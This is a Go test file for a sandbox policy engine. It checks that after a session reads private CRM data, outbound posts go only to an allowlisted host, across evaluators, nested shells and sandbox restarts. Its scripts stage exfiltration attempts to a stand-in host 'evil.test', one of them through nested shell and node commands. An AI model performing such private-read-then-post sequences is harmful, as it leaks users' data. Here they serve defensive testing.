package engine_test

import (
	"context"
	"strings"
	"testing"

	"github.com/cordonhq/cordon/dsl"
	"github.com/cordonhq/cordon/engine"
	"github.com/cordonhq/cordon/engine/enginetest"
	"github.com/cordonhq/cordon/policy"
)

// flowTools are a private read, an egress and a neutral tool.
func flowTools() []engine.Tool {
	crm := enginetest.Mock("crm/read", map[string]any{"email": "ceo@acme.test"})
	crm.Labels = []string{"private"}
	post := enginetest.Echo("net/post")
	post.Labels = []string{"egress"}
	return []engine.Tool{crm, post, enginetest.Echo("calc/add")}
}

// flowCapabilities: after a private read, egress goes only to the allowed
// host, and anything else asks.
func flowCapabilities() []*dsl.Capability {
	return []*dsl.Capability{
		dsl.Method("crm/read"),
		dsl.Method("calc/*"),
		dsl.Method("net/post").Where(dsl.Param("host").Eq("api.ok.test")),
		dsl.Method("net/post").UnlessTouched("private"),
		dsl.Method("net/post").Ask(),
	}
}

const flowScript = `
const out = []
const post = async (host) => { try { await net.post({host}); out.push("sent " + host) } catch (e) { out.push(e.kind + " " + host) } }
await post("evil.test")
await calc.add({a: 1})
await post("evil.test")
await crm.read({})
await post("evil.test")
await post("api.ok.test")
console.log(out.join("\n"))`

const flowWant = "sent evil.test\nsent evil.test\ndenied evil.test\nsent api.ok.test\n"

// A flow rule sees what the session touched: egress anywhere until a
// private read, then only to the allowlist; the rest asks (and, with no
// approver, is denied). The same holds under each evaluator.
func TestFlowRuleAfterPrivateRead(t *testing.T) {
	for name, pol := range enginetest.Evaluators(t, flowCapabilities()...) {
		t.Run(name, func(t *testing.T) {
			sb := enginetest.NewSandbox(t, engine.SandboxConfig{Tools: flowTools(), Policy: pol})
			res := enginetest.Run(t, sb, flowScript)
			if res.Stdout != flowWant {
				t.Fatalf("stdout:\n%s\nwant:\n%s", res.Stdout, flowWant)
			}
			// After the private read, the post to another host falls
			// through to the asking capability.
			var reasons []string
			for _, c := range res.ToolCalls {
				if c.Method == "net/post" && !c.Allowed {
					reasons = c.Reasons
				}
			}
			if !strings.Contains(strings.Join(reasons, "\n"), `capability #4 "net/post" requires approval`) {
				t.Errorf("the refused post was not an ask: %q", reasons)
			}
		})
	}
}

// The shell, and an interpreter nested in it, are the same session: the
// private read in one counts for egress in the other.
func TestFlowRuleAcrossInterpreters(t *testing.T) {
	sb := enginetest.NewSandbox(t, engine.SandboxConfig{Tools: flowTools(), Policy: enginetest.Policy(t, flowCapabilities()...)})
	res := enginetest.RunShell(t, sb, `tool net/post --host evil.test >/dev/null && echo first-sent
node -e 'await crm.read({})' && echo read
tool net/post --host evil.test || echo refused
sh -c 'node -e "await net.post({host: \"evil.test\"})"' || echo nested-refused`)
	for _, want := range []string{"first-sent", "read", "refused", "nested-refused"} {
		if !strings.Contains(res.Stdout, want+"\n") {
			t.Errorf("stdout lacks %q:\n%s\nstderr:\n%s", want, res.Stdout, res.Stderr)
		}
	}
}

// The flow history is kept with the call counters: a sandbox that
// replaces another in the same session (the same ID) remembers the
// private read.
func TestFlowOutlivesTheSandbox(t *testing.T) {
	eng := enginetest.Engine(t)
	cfg := engine.SandboxConfig{ID: "flow-" + t.Name(), Tools: flowTools(), Policy: enginetest.Policy(t, flowCapabilities()...)}
	first := enginetest.NewSandboxOf(t, eng, cfg)
	enginetest.Run(t, first, `await crm.read({})`)
	if err := first.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	second := enginetest.NewSandboxOf(t, eng, cfg)
	res := enginetest.Run(t, second, `try { await net.post({host: "evil.test"}); console.log("sent") } catch (e) { console.log(e.kind) }`)
	if res.Stdout != "denied\n" {
		t.Fatalf("the replacing sandbox forgot the private read: %q", res.Stdout)
	}
}

// The same rule in plain Rego, on input.session.flow and input.tool.labels.
func TestFlowRuleInRego(t *testing.T) {
	pol, err := policy.New(context.Background(), policy.Config{
		Capabilities: []*dsl.Capability{dsl.Method("**")},
		Modules: map[string]string{"flow.rego": `package cordon.authz

allowed_hosts := {"api.ok.test"}

deny contains "egress after a private read goes only to allowed hosts" if {
	"egress" in input.tool.labels
	input.session.flow.labels.private > 0
	not input.params.host in allowed_hosts
}
`},
	})
	if err != nil {
		t.Fatal(err)
	}
	sb := enginetest.NewSandbox(t, engine.SandboxConfig{Tools: flowTools(), Policy: pol})
	res := enginetest.Run(t, sb, flowScript)
	if res.Stdout != flowWant {
		t.Fatalf("stdout:\n%s\nwant:\n%s", res.Stdout, flowWant)
	}
}

func TestToolLabelsAreChecked(t *testing.T) {
	bad := enginetest.Echo("x")
	bad.Labels = []string{"pri vate"}
	_, err := enginetest.Engine(t).NewSandbox(context.Background(), engine.SandboxConfig{Tools: []engine.Tool{bad}})
	if engine.KindOf(err) != engine.KindInvalid || !strings.Contains(err.Error(), "pri vate") {
		t.Fatalf("a label with a space: %v", err)
	}
}
